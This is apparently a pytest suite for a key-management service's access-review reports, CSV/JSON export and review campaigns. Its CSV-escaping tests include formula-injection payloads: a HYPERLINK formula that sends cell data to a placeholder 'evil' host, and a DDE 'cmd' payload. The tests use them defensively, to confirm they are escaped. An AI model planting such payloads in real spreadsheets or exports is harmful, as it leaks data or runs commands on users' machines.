"""Access reviews: the report built from plain data, its CSV export, and review campaigns."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kms import review
from kms.approvals import Approval, Proposal, ProposalKind, ProposalState, Verdict
from kms.errors import ConflictError, InvalidRequestError, NotFoundError, PermissionDeniedError
from kms.identity import Principal, Role
from kms.review import (
    DAY,
    AccessReport,
    Campaign,
    CampaignState,
    EmergencyStatus,
    Item,
    ItemState,
    TimeWindow,
    build_report,
    certify,
    close,
    csv_cell,
    may_decide,
    open_campaign,
    report_to_csv,
    report_to_json,
    revoke,
)

NOW = 1_750_000_000.0
T0 = NOW - 400 * DAY  # when everyone was created, unless a test says otherwise


def person(pid: str, *roles: Role, created_at: float = T0, disabled: bool = False) -> Principal:
    return Principal(
        id=pid,
        roles=frozenset(roles),
        jwk={"kty": "OKP"},
        thumbprint=f"tp-{pid}",
        created_at=created_at,
        created_by="root",
        disabled_at=T0 + 1 if disabled else None,
        display_name=pid.title(),
    )


OLGA = person("olga", Role.SECURITY_OFFICER)
OSCAR = person("oscar", Role.SECURITY_OFFICER)
ALICE = person("alice", Role.OFFICIAL)
BOB = person("bob", Role.OFFICIAL)
RUTH = person("ruth", Role.RESTORE_OPERATOR)
TOOL = person("tool-1", Role.RESTORE_TOOL)
GONE = person("gone", Role.SECURITY_OFFICER, disabled=True)
EVERYONE = (OLGA, OSCAR, ALICE, BOB, RUTH, TOOL, GONE)


@dataclass(frozen=True)
class View:
    """A stored proposal as the adapter hands it over (``StoredProposalView``)."""

    proposal: Proposal
    state: ProposalState
    decided_at: float | None
    uses: int = 0
    max_uses: int | None = None
    approvals: tuple[Approval, ...] = ()


def votes(
    pid: str, at: float, *officials: str, verdict: Verdict = Verdict.APPROVE
) -> tuple[Approval, ...]:
    return tuple(Approval(pid, o, verdict, at, "jws") for o in officials)


def restore(
    pid: str,
    *,
    state: ProposalState = ProposalState.APPROVED,
    decided_at: float | None = NOW - 10,
    datasets: tuple[str, ...] = ("laws",),
    site: str = "embassy-1",
    ttl: int = 3600,
    uses: int = 0,
    approvers: tuple[str, ...] = ("alice", "bob"),
    tool: str = "tool-1",
) -> View:
    proposal = Proposal(
        id=pid,
        kind=ProposalKind.RESTORE,
        requester="ruth",
        payload={
            "datasets": list(datasets),
            "site": site,
            "reason": "disaster-recovery",
            "justification": "flood",
            "tool": tool,
            "ttl": ttl,
            "max_uses": None,
        },
        created_at=(decided_at or NOW) - 100,
        expires_at=(decided_at or NOW) + 86_400,
        audience="ekms",
    )
    return View(
        proposal, state, decided_at, uses, None, votes(pid, (decided_at or NOW) - 5, *approvers)
    )


def emergency(pid: str, kind: ProposalKind, decided_at: float, **payload: Any) -> View:
    proposal = Proposal(pid, kind, "alice", payload, decided_at - 60, decided_at + 3600, "ekms")
    return View(
        proposal, ProposalState.APPROVED, decided_at, approvals=votes(pid, decided_at, "bob")
    )


def record(
    at: float,
    operation: str = "transit.decrypt",
    *,
    principal: str | None = "tool-1",
    decision: str = "allow",
    key: str | None = "laws",
    reason: str | None = None,
    rid: str = "r",
    **details: Any,
) -> dict[str, Any]:
    rec: dict[str, Any] = {
        "time_us": round(at * 1_000_000),
        "request_id": rid,
        "node": "n1",
        "operation": operation,
        "decision": decision,
        "status": 200 if decision == "allow" else 403,
        "details": details,
    }
    optional = {"principal": principal, "key": key, "reason": reason}
    rec.update({name: value for name, value in optional.items() if value is not None})
    return rec


def token(
    jti: str, principal: str, at: float, *, grant: str | None = None, **scope: Any
) -> dict[str, Any]:
    return {
        "jti": jti,
        "principal": principal,
        "roles": ["restore-tool"],
        "scope": scope or None,
        "proposal_id": grant,
        "jkt": None,
        "issued_at": at,
        "expires_at": at + 900,
        "revoked_at": None,
    }


def report(**overrides: Any) -> AccessReport:
    values: dict[str, Any] = {
        "principals": EVERYONE,
        "issued_tokens": [],
        "proposals": [],
        "audit_records": [],
        "key_names": [],
        "now": NOW,
    }
    values.update(overrides)
    return build_report(**values)


# --- dormancy -----------------------------------------------------------------------------

DORMANT_CASES = [
    # created (days ago), last allowed use (days ago or None), days, dormant
    (400, None, 90, True),
    (90, None, 90, True),  # exactly the period without use is dormant
    (89.999, None, 90, False),
    (400, 90, 90, True),
    (400, 89.999, 90, False),
    (400, 7, 7, True),
    (400, 6, 7, False),
    (400, 0, 1, False),
]


@pytest.mark.parametrize(("created", "used", "days", "dormant"), DORMANT_CASES)
def test_principal_dormancy_at_the_boundary(
    created: float, used: float | None, days: int, dormant: bool
) -> None:
    ruth = replace(RUTH, created_at=NOW - created * DAY)
    records = [] if used is None else [record(NOW - used * DAY, "auth.login", principal="ruth")]
    (entry,) = report(principals=[ruth], audit_records=records, dormant_after_days=days).principals
    assert entry.dormant is dormant
    assert entry.last_use == (None if used is None else NOW - used * DAY)


def test_only_allowed_uses_count_and_disabled_principals_are_not_dormant() -> None:
    records = [
        record(NOW - 100 * DAY, "auth.login", principal="ruth"),
        record(NOW - DAY, "auth.login", principal="ruth", decision="deny"),
        record(NOW - DAY, "auth.login", principal="ruth", decision="error"),
    ]
    entries = {p.id: p for p in report(audit_records=records).principals}
    assert entries["ruth"].last_use == NOW - 100 * DAY
    assert entries["ruth"].dormant
    assert not entries["gone"].dormant


def test_last_use_ignores_the_window() -> None:
    """Dormancy is judged as of now: a window in the past must not make everyone dormant."""
    records = [record(NOW - DAY, "auth.login", principal="ruth")]
    old = TimeWindow(NOW - 300 * DAY, NOW - 200 * DAY)
    (ruth,) = report(principals=[RUTH], audit_records=records, window=old).principals
    assert ruth.last_use == NOW - DAY
    assert not ruth.dormant


GRANT_DORMANT_CASES = [
    # state, decided (days ago), ttl (days), last use (days ago or None), dormant
    (ProposalState.APPROVED, 100, 365, None, True),
    (ProposalState.APPROVED, 89, 365, None, False),
    (ProposalState.APPROVED, 200, 365, 90, True),
    (ProposalState.APPROVED, 200, 365, 10, False),
    (ProposalState.APPROVED, 200, 150, None, False),  # window closed: nothing left to remove
    (ProposalState.REVOKED, 200, 365, None, False),
]


@pytest.mark.parametrize(("state", "decided", "ttl", "used", "dormant"), GRANT_DORMANT_CASES)
def test_grant_dormancy(
    state: ProposalState, decided: int, ttl: int, used: int | None, dormant: bool
) -> None:
    view = restore("grant-0001", state=state, decided_at=NOW - decided * DAY, ttl=ttl * 86_400)
    records = [] if used is None else [record(NOW - used * DAY, grant="grant-0001")]
    (grant,) = report(proposals=[view], audit_records=records).grants
    assert grant.dormant is dormant
    assert grant.window_end == NOW - decided * DAY + ttl * DAY
    assert grant.window_open is (state is ProposalState.APPROVED and ttl > decided)


def test_dormancy_period_is_bounded() -> None:
    for days in (0, -1, 3651, True):
        with pytest.raises(InvalidRequestError, match="dormant_after_days"):
            report(dormant_after_days=days)


# --- grants -------------------------------------------------------------------------------


def test_grants_list_decided_restores_with_their_credentials() -> None:
    pending = restore("pend-0001", state=ProposalState.PENDING, decided_at=None)
    stale = replace(
        pending,
        proposal=replace(pending.proposal, id="stale-001", expires_at=NOW - 1),
    )
    denied = restore("deny-0001", state=ProposalState.DENIED)
    approved = restore("okay-0001", uses=3)
    official = emergency("decl-0001", ProposalKind.DECLARE_EMERGENCY, NOW - 50, duration=3600)
    revoked_token = {**token("j2", "tool-1", NOW - 5, grant="okay-0001"), "revoked_at": NOW - 1}
    result = report(
        proposals=[pending, stale, denied, approved, official],
        issued_tokens=[token("j1", "tool-1", NOW - 9, grant="okay-0001"), revoked_token],
        audit_records=[record(NOW - 4, grant="okay-0001")],
    )
    by_id = {g.id: g for g in result.grants}
    assert set(by_id) == {"okay-0001", "stale-001"}
    assert by_id["stale-001"].state == "expired"
    grant = by_id["okay-0001"]
    assert (grant.credentials_issued, grant.credentials_revoked) == (2, 1)
    assert (grant.uses, grant.last_use, grant.requester, grant.tool) == (
        3,
        NOW - 4,
        "ruth",
        "tool-1",
    )
    assert [a.official for a in grant.approvers] == ["alice", "bob"]
    assert grant.reason == "disaster-recovery"


# --- usage --------------------------------------------------------------------------------


def test_usage_counts_items_as_unwraps() -> None:
    grant = restore("grant-0001", datasets=("laws", "registry"))
    tokens = [
        token(
            "j1",
            "tool-1",
            NOW - 50,
            grant="grant-0001",
            datasets=["laws", "registry"],
            site="embassy-1",
        ),
        token("j2", "tool-1", NOW - 40, grant="grant-0001", datasets=["laws"], site="embassy-1"),
        token("j3", "olga", NOW - 30),
    ]
    records = [
        record(NOW - 20, grant="grant-0001", items=5, failed_items=0),
        record(NOW - 19, grant="grant-0001"),  # a single decrypt is one unwrap
        record(NOW - 18, grant="grant-0001", decision="deny", items=3),
        record(NOW - 17, grant="grant-0001", decision="error", items=7),
        record(NOW - 16, "transit.encrypt", grant="grant-0001", items=9),
        record(NOW - 15, grant="grant-0001", items=0),  # malformed counts as one
        record(NOW - 14, grant="grant-0001", key="registry", items=True),
        record(NOW - 13, principal="root-accessor", key="laws"),
    ]
    usage = report(proposals=[grant], issued_tokens=tokens, audit_records=records).usage
    table = {(u.principal, u.dataset, u.site): (u.issued, u.used, u.denied) for u in usage}
    assert table == {
        ("olga", None, None): (1, 0, 0),
        ("root-accessor", "laws", None): (0, 1, 0),
        ("tool-1", "laws", "embassy-1"): (2, 7, 3),
        ("tool-1", "registry", "embassy-1"): (1, 1, 0),
    }


@given(st.lists(st.integers(min_value=1, max_value=10_000), max_size=20))
@settings(max_examples=50, deadline=None)
def test_used_is_the_sum_of_items(batches: list[int]) -> None:
    records = [record(NOW - 1, grant="g-000001", items=n) for n in batches]
    usage = report(proposals=[restore("g-000001")], audit_records=records).usage
    assert sum(u.used for u in usage) == sum(batches)


# --- keys and denials ---------------------------------------------------------------------


def test_unused_keys() -> None:
    names = ["laws", "registry", "census", "ekms/token-signing", "old"]
    records = [
        record(NOW - 5, key="laws"),
        record(NOW - 5, "transit.key.read", key="registry"),  # administration is not use
        record(NOW - 5, "transit.encrypt", key="census", decision="deny"),
        record(NOW - 400 * DAY, "transit.encrypt", key="old"),
    ]
    assert report(key_names=names, audit_records=records).unused_keys == ("census", "registry")
    recent = TimeWindow(NOW - 30 * DAY, NOW)
    windowed = report(key_names=names, audit_records=records, window=recent)
    assert windowed.unused_keys == ("census", "old", "registry")


def test_denials_newest_first_and_capped() -> None:
    records = [
        record(
            NOW - 1000 + i, principal=f"p{i % 3}", decision="deny", reason=f"why {i}", rid=f"{i}"
        )
        for i in range(review.MAX_LISTED + 20)
    ]
    records.append(record(NOW, "auth.login", principal="p0", decision="error"))
    result = report(audit_records=records)
    assert result.denials_total == review.MAX_LISTED + 20
    assert len(result.denials) == review.MAX_LISTED
    times = [d.time for d in result.denials]
    assert times == sorted(times, reverse=True)
    assert result.denials[0].reason == f"why {review.MAX_LISTED + 19}"
    assert report_to_json(result)["denials"]["truncated"] is True


def test_records_without_time_or_operation_are_counted_not_used() -> None:
    records: list[dict[str, Any]] = [
        {"operation": "transit.decrypt", "decision": "deny"},
        {"time_us": 5, "decision": "deny"},
        {"time_us": True, "operation": "transit.decrypt", "decision": "deny"},
        {"time": NOW - 3, "operation": "auth.login", "decision": "deny", "request_id": "x"},
    ]
    result = report(audit_records=records)
    assert result.skipped_records == 3
    assert [d.request_id for d in result.denials] == ["x"]


# --- emergencies and officials ------------------------------------------------------------


def test_emergency_periods() -> None:
    declared = ProposalKind.DECLARE_EMERGENCY
    views = [
        emergency("decl-ended", declared, NOW - 5000, duration=3600, justification="storm"),
        emergency("ends-0001", ProposalKind.END_EMERGENCY, NOW - 4000, justification="over"),
        emergency("decl-expired", declared, NOW - 90_000, duration=3600, justification="fire"),
        emergency("decl-active", declared, NOW - 100, duration=3600, justification="war"),
        replace(
            emergency("decl-denied", declared, NOW - 100, duration=60),
            state=ProposalState.DENIED,
        ),
    ]
    result = {e.proposal_id: e for e in report(proposals=views).emergencies}
    assert set(result) == {"decl-ended", "decl-expired", "decl-active"}
    ended = result["decl-ended"]
    assert (ended.status, ended.ended_at, ended.ended_by_proposal) == (
        EmergencyStatus.ENDED,
        NOW - 4000,
        "ends-0001",
    )
    assert (ended.declared_by, ended.justification) == ("alice", "storm")
    assert [a.official for a in ended.approvers] == ["bob"]
    assert result["decl-expired"].status is EmergencyStatus.EXPIRED
    assert result["decl-expired"].ended_at == NOW - 90_000 + 3600
    assert result["decl-active"].status is EmergencyStatus.ACTIVE
    assert report(proposals=views).emergencies[0].proposal_id == "decl-active"  # newest first


def test_officials_share_activity_and_votes() -> None:
    records = [
        record(NOW - 10, "sys.unseal", principal=None, key=None, official="alice"),
        record(NOW - 9, "sys.generate-root.update", principal=None, key=None, official="alice"),
        record(NOW - 8, "ceremony.init", principal="bob", key=None),
        record(NOW - 7, "sys.rekey.update", principal=None, key=None, official="mallory"),
        record(NOW - 6, "sys.seal", principal="alice", key=None),  # not share handling
        record(NOW - 5, "sys.unseal", principal=None, key=None),  # names nobody
    ]
    views = [
        restore("grant-0001", approvers=("alice", "bob")),
        replace(
            restore("grant-0002"),
            approvals=votes("grant-0002", NOW - 2, "alice", verdict=Verdict.DENY),
        ),
    ]
    officials = {o.official: o for o in report(audit_records=records, proposals=views).officials}
    assert set(officials) == {"alice", "bob", "mallory"}
    alice = officials["alice"]
    assert [e.operation for e in alice.share_events] == ["sys.generate-root.update", "sys.unseal"]
    assert (alice.approvals, alice.denials, alice.last_decision) == (1, 1, NOW - 2)
    assert officials["bob"].share_events_total == 1
    assert officials["mallory"].share_events_total == 1  # an unknown name is worth seeing


# --- filters ------------------------------------------------------------------------------


def _filter_fixture() -> dict[str, Any]:
    return {
        "proposals": [
            restore("grant-laws", datasets=("laws",), site="embassy-1"),
            restore(
                "grant-reg",
                datasets=("registry",),
                site="embassy-2",
                approvers=("bob",),
                tool="tool-2",
            ),
            emergency("decl-0001", ProposalKind.DECLARE_EMERGENCY, NOW - 50, duration=3600),
        ],
        "issued_tokens": [
            token("j1", "tool-1", NOW - 9, grant="grant-laws", datasets=["laws"], site="embassy-1"),
            token(
                "j2", "tool-2", NOW - 9, grant="grant-reg", datasets=["registry"], site="embassy-2"
            ),
        ],
        "audit_records": [
            record(NOW - 8, grant="grant-laws", key="laws", rid="a"),
            record(NOW - 8, principal="tool-2", grant="grant-reg", key="registry", rid="b"),
            record(NOW - 7, principal="tool-2", decision="deny", key="laws", rid="c"),
            record(NOW - 40 * DAY, principal="tool-1", decision="deny", key="laws", rid="d"),
            record(NOW - 6, "sys.unseal", principal=None, key=None, official="alice", rid="e"),
        ],
        "key_names": ["laws", "registry", "census"],
    }


LAWS1, LAWS2, REG2 = ("tool-1", "laws"), ("tool-2", "laws"), ("tool-2", "registry")
BOTH_GRANTS, BOTH_OFFICIALS = {"grant-laws", "grant-reg"}, {"alice", "bob"}
ALL_KEYS = {"census", "laws", "registry"}
FILTER_CASES = [
    # filters, grants, usage (principal, dataset), unused keys, denials, officials
    ({}, BOTH_GRANTS, {LAWS1, LAWS2, REG2}, {"census"}, {"c", "d"}, BOTH_OFFICIALS),
    ({"principal": "tool-2"}, {"grant-reg"}, {LAWS2, REG2}, {"census", "laws"}, {"c"}, set()),
    ({"principal": "bob"}, BOTH_GRANTS, set(), ALL_KEYS, set(), {"bob"}),
    ({"dataset": "laws"}, {"grant-laws"}, {LAWS1, LAWS2}, set(), {"c", "d"}, BOTH_OFFICIALS),
    ({"site": "embassy-2"}, {"grant-reg"}, {REG2}, {"census", "laws"}, set(), BOTH_OFFICIALS),
    (
        {"window": TimeWindow(NOW - DAY, NOW)},
        BOTH_GRANTS,
        {LAWS1, LAWS2, REG2},
        {"census"},
        {"c"},
        BOTH_OFFICIALS,
    ),
    (
        {"window": TimeWindow(NOW - 50 * DAY, NOW - 30 * DAY)},
        BOTH_GRANTS,
        {LAWS1},
        ALL_KEYS,
        {"d"},
        BOTH_OFFICIALS,
    ),
]


@pytest.mark.parametrize(
    ("filters", "grants", "usage", "unused", "denials", "officials"), FILTER_CASES
)
def test_filters_narrow_every_section(  # noqa: PLR0917 - one parameter per table column
    filters: dict[str, Any],
    grants: set[str],
    usage: set[tuple[str, str]],
    unused: set[str],
    denials: set[str],
    officials: set[str],
) -> None:
    result = report(**_filter_fixture(), **filters)
    assert {g.id for g in result.grants} == grants
    assert {(u.principal, u.dataset) for u in result.usage} == usage
    assert set(result.unused_keys) == unused
    assert {d.request_id for d in result.denials} == denials
    assert {o.official for o in result.officials} == officials
    if "principal" in filters:
        assert {p.id for p in result.principals} <= {filters["principal"]}
        declared_or_approved = filters["principal"] in {"alice", "bob"}
        assert len(result.emergencies) == int(declared_or_approved)
    else:
        assert len(result.principals) == len(EVERYONE)
        assert len(result.emergencies) == 1  # standing facts: not narrowed by dataset, site, window


def test_dataset_filter_keeps_only_votes_on_matching_restores() -> None:
    views = [
        restore("grant-laws", datasets=("laws",), approvers=("alice",)),
        emergency("decl-0001", ProposalKind.DECLARE_EMERGENCY, NOW - 50, duration=3600),
    ]
    officials = {o.official: o for o in report(proposals=views, dataset="laws").officials}
    assert (officials["alice"].approvals, officials["bob"].approvals) == (1, 0)
    everything = {o.official: o for o in report(proposals=views).officials}
    assert everything["bob"].approvals == 1


def test_inputs_may_be_generators() -> None:
    """Each input is read once, so an adapter can stream audit records from its store."""
    fixture = _filter_fixture()
    streamed = report(**{k: iter(v) for k, v in fixture.items()}, principals=iter(EVERYONE))
    assert streamed == report(**fixture)


def test_bad_filters_are_refused() -> None:
    with pytest.raises(InvalidRequestError, match="principal filter"):
        report(principal="")
    with pytest.raises(InvalidRequestError, match="time window"):
        TimeWindow(NOW, NOW - 1)
    with pytest.raises(InvalidRequestError, match="now"):
        report(now=float("nan"))


# --- output -------------------------------------------------------------------------------


def test_json_shape() -> None:
    data = report_to_json(report(**_filter_fixture(), window=TimeWindow(NOW - DAY, NOW)))
    assert json.loads(json.dumps(data)) == data
    sections = {"principals", "grants", "usage", "unused_keys", "denials", "emergencies"}
    assert set(data) == sections | {"officials", "generated_at", "filters", "skipped_records"}
    assert data["filters"]["window"] == {"start": NOW - DAY, "end": NOW}
    assert set(data["denials"]) == {"total", "truncated", "listed"}


@pytest.mark.parametrize("section", review.SECTIONS)
def test_every_section_has_a_header_and_rows(section: str) -> None:
    rows = list(csv.reader(io.StringIO(report_to_csv(report(**_filter_fixture()), section))))
    header, body = rows[0], rows[1:]
    assert header == list(review._CSV_SECTIONS[section][0])
    assert body
    assert all(len(row) == len(header) for row in body)


def test_unknown_csv_section() -> None:
    with pytest.raises(InvalidRequestError, match="unknown report section"):
        report_to_csv(report(), "secrets")


ESCAPE_CASES = [
    ('=HYPERLINK("https://evil/?"&A1)', '\'=HYPERLINK("https://evil/?"&A1)'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("alice", "alice"),
    ("a=b", "a=b"),
    ("", ""),
    ("2025-01-01T00:00:00Z", "2025-01-01T00:00:00Z"),
]


@pytest.mark.parametrize(("value", "escaped"), ESCAPE_CASES)
def test_csv_cell_escapes_formulas(value: str, escaped: str) -> None:
    assert csv_cell(value) == escaped


@given(st.text())
@settings(max_examples=200, deadline=None)
def test_no_cell_starts_a_formula(text: str) -> None:
    ruth = replace(RUTH, display_name=text)
    out = report_to_csv(report(principals=[ruth]), "principals")
    (_, row) = list(csv.reader(io.StringIO(out, newline="")))
    cell = row[1]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


def test_injected_fields_reach_the_csv_escaped() -> None:
    evil = "=cmd|'/c calc'!A0"
    declared = emergency(
        "decl-0001", ProposalKind.DECLARE_EMERGENCY, NOW - 50, duration=3600, justification=evil
    )
    records = [
        record(NOW - 1, decision="deny", reason="@bad"),
        record(NOW - 1, principal="-x", decision="deny"),
    ]
    result = report(proposals=[declared], audit_records=records)
    (_, row) = list(csv.reader(io.StringIO(report_to_csv(result, "emergencies"))))
    assert row[3] == "'" + evil
    text = report_to_csv(result, "denials")
    assert "'@bad" in text
    assert "'-x" in text


def test_csv_times_are_iso_utc() -> None:
    (_, row) = list(csv.reader(io.StringIO(report_to_csv(report(principals=[RUTH]), "principals"))))
    assert row[4] == "2024-05-11T15:06:40Z"


# --- campaigns ----------------------------------------------------------------------------

CID = "review-2025-q1"
WEEK = 7 * DAY


def opened(**overrides: Any) -> Campaign:
    return open_campaign(OLGA, EVERYONE, NOW, WEEK, CID, **overrides)


def test_open_reviews_every_active_principal() -> None:
    campaign = opened()
    assert set(campaign.items) == {p.id for p in EVERYONE if p.active}
    assert all(i.state is ItemState.PENDING for i in campaign.items.values())
    assert (campaign.state, campaign.scope, campaign.closes_at) == (
        CampaignState.OPEN,
        None,
        NOW + WEEK,
    )
    listed = opened(scope=["ruth", "tool-1", "ruth"])
    assert listed.scope == ("ruth", "tool-1")
    assert set(listed.items) == {"ruth", "tool-1"}


OPEN_REFUSALS = [
    # officer, duration, scope, campaign id, error, message
    (RUTH, WEEK, None, CID, PermissionDeniedError, "not a security officer"),
    (GONE, WEEK, None, CID, PermissionDeniedError, "disabled"),
    (OLGA, 3599.0, None, CID, InvalidRequestError, "duration"),
    (OLGA, 90 * DAY + 1, None, CID, InvalidRequestError, "duration"),
    (OLGA, float("inf"), None, CID, InvalidRequestError, "duration"),
    (OLGA, WEEK, ["nobody"], CID, NotFoundError, "no principal"),
    (OLGA, WEEK, ["gone"], CID, InvalidRequestError, "disabled"),
    (OLGA, WEEK, [], CID, InvalidRequestError, "at least one"),
    (OLGA, WEEK, None, "Bad Id", InvalidRequestError, "campaign id"),
]


@pytest.mark.parametrize(("officer", "duration", "scope", "cid", "error", "why"), OPEN_REFUSALS)
def test_open_refusals(  # noqa: PLR0917 - one parameter per table column
    officer: Principal,
    duration: float,
    scope: list[str] | None,
    cid: str,
    error: type[Exception],
    why: str,
) -> None:
    with pytest.raises(error) as caught:
        open_campaign(officer, EVERYONE, NOW, duration, cid, scope=scope)
    text = (
        caught.value.reason
        if isinstance(caught.value, PermissionDeniedError)
        else str(caught.value)
    )
    assert why in text


def test_certify_and_revoke_record_who_when_and_why() -> None:
    campaign = certify(opened(), OSCAR, "olga", NOW + 1, "still on duty")
    campaign = revoke(campaign, OLGA, "ruth", NOW + 2, "left the ministry")
    assert campaign.items["olga"] == Item(ItemState.CERTIFIED, "oscar", NOW + 1, "still on duty")
    assert campaign.items["ruth"] == Item(ItemState.REVOKED, "olga", NOW + 2, "left the ministry")
    assert opened().items["ruth"].state is ItemState.PENDING  # the original is untouched
    with pytest.raises(TypeError):
        campaign.items["ruth"] = Item()  # type: ignore[index]


def _closed() -> Campaign:
    return close(opened(), OLGA, NOW + 1).campaign


DECIDE_REFUSALS = [
    # campaign, officer, principal, now, error, reason
    (opened, OLGA, "olga", NOW + 1, PermissionDeniedError, "own access review"),
    (opened, RUTH, "alice", NOW + 1, PermissionDeniedError, "not a security officer"),
    (opened, GONE, "alice", NOW + 1, PermissionDeniedError, "disabled"),
    (opened, ALICE, "alice", NOW + 1, PermissionDeniedError, "not a security officer"),
    (_closed, OSCAR, "alice", NOW + 2, ConflictError, "closed"),
    (opened, OLGA, "alice", NOW + WEEK, ConflictError, "review period is over"),
    (opened, OLGA, "nobody", NOW + 1, NotFoundError, "not under review"),
    (opened, OLGA, "gone", NOW + 1, NotFoundError, "not under review"),
]


@pytest.mark.parametrize("action", [certify, revoke])
@pytest.mark.parametrize(("make", "officer", "target", "now", "error", "why"), DECIDE_REFUSALS)
def test_decide_refusals(  # noqa: PLR0917 - one parameter per table column
    action: Any,
    make: Any,
    officer: Principal,
    target: str,
    now: float,
    error: type[Exception],
    why: str,
) -> None:
    with pytest.raises(error) as caught:
        action(make(), officer, target, now, "note")
    if isinstance(caught.value, PermissionDeniedError):
        assert str(caught.value) == "permission denied"  # opaque to the caller
        assert why in caught.value.reason
    else:
        assert why in str(caught.value)


def test_deciding_twice_is_a_conflict() -> None:
    campaign = certify(opened(), OLGA, "alice", NOW + 1, "")
    for action in (certify, revoke):
        with pytest.raises(ConflictError, match="already been certified"):
            action(campaign, OSCAR, "alice", NOW + 2, "second opinion")


def test_revocation_needs_a_note_and_notes_are_bounded() -> None:
    with pytest.raises(InvalidRequestError, match="needs a note"):
        revoke(opened(), OLGA, "ruth", NOW + 1, "  ")
    with pytest.raises(InvalidRequestError, match="limited"):
        certify(opened(), OLGA, "ruth", NOW + 1, "x" * (review.MAX_NOTE + 1))


def test_self_review_is_a_decision() -> None:
    assert may_decide(OLGA, "ruth")
    denied = may_decide(OLGA, "olga")
    assert not denied
    assert "own access review" in getattr(denied, "reason", "")


def test_close_suspends_pending_and_revokes_revoked() -> None:
    campaign = certify(opened(), OLGA, "alice", NOW + 1, "")
    campaign = certify(campaign, OLGA, "bob", NOW + 1, "")
    campaign = revoke(campaign, OLGA, "ruth", NOW + 2, "moved on")
    closing = close(campaign, OSCAR, NOW + WEEK + 5)
    assert closing.suspend == ("olga", "oscar", "tool-1")
    assert closing.revoke == ("ruth",)
    assert closing.campaign.state is CampaignState.CLOSED
    assert (closing.campaign.closed_at, closing.campaign.closed_by) == (NOW + WEEK + 5, "oscar")
    with pytest.raises(ConflictError, match="closed"):
        close(closing.campaign, OLGA, NOW + WEEK + 6)
    with pytest.raises(PermissionDeniedError):
        close(campaign, RUTH, NOW + 3)


# --- storage round trip -------------------------------------------------------------------

_ids = st.sampled_from([p.id for p in EVERYONE if p.active])
_officers = st.sampled_from([OLGA, OSCAR])


@st.composite
def campaigns(draw: st.DrawFn) -> Campaign:
    scope = draw(st.none() | st.lists(_ids, min_size=1, unique=True))
    # Whole seconds: NOW + a float just under a float duration can round up to closes_at.
    duration = draw(st.integers(min_value=3600, max_value=90 * DAY))
    campaign = open_campaign(draw(_officers), EVERYONE, NOW, duration, CID, scope=scope)
    for pid in draw(st.lists(st.sampled_from(sorted(campaign.items)), unique=True)):
        officer = OSCAR if pid == "olga" else OLGA
        note = draw(st.text(min_size=1, max_size=40).filter(str.strip))
        when = NOW + draw(st.integers(min_value=0, max_value=duration - 1))
        action = draw(st.sampled_from([certify, revoke]))
        campaign = action(campaign, officer, pid, when, note)
    if draw(st.booleans()):
        campaign = close(campaign, draw(_officers), NOW + duration).campaign
    return campaign


@given(campaigns())
@settings(max_examples=100, deadline=None)
def test_campaign_json_round_trip(campaign: Campaign) -> None:
    stored = json.loads(json.dumps(campaign.to_json()))
    assert Campaign.from_json(stored) == campaign
    assert Campaign.from_json(stored).to_json() == campaign.to_json()


def _stored() -> dict[str, Any]:
    return certify(opened(scope=["ruth"]), OLGA, "ruth", NOW + 1, "ok").to_json()


def _with_item(data: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return {**data, "items": {"ruth": {**data["items"]["ruth"], **changes}}}


FROM_JSON_REFUSALS = [
    ("not a dict", lambda _: ["x"]),
    ("missing field", lambda d: {k: v for k, v in d.items() if k != "closes_at"}),
    ("extra field", lambda d: {**d, "admin": True}),
    ("bad state", lambda d: {**d, "state": "half-open"}),
    ("bad time", lambda d: {**d, "opened_at": "yesterday"}),
    ("boolean time", lambda d: {**d, "opened_at": True}),
    ("too long", lambda d: {**d, "closes_at": d["opened_at"] + 91 * DAY}),
    ("closed without closer", lambda d: {**d, "state": "closed"}),
    ("open with closer", lambda d: {**d, "closed_at": NOW, "closed_by": "olga"}),
    ("scope differs from items", lambda d: {**d, "scope": ["alice"]}),
    ("no items", lambda d: {**d, "items": {}, "scope": None}),
    ("decided without decider", lambda d: _with_item(d, decided_by=None)),
    ("pending with decider", lambda d: _with_item(d, state="pending")),
    ("bad item state", lambda d: _with_item(d, state="maybe")),
    ("extra item field", lambda d: _with_item(d, extra=1)),
]


@pytest.mark.parametrize(("case", "corrupt"), FROM_JSON_REFUSALS)
def test_from_json_refuses_malformed(case: str, corrupt: Any) -> None:
    Campaign.from_json(_stored())
    with pytest.raises(InvalidRequestError):
        Campaign.from_json(corrupt(_stored()))
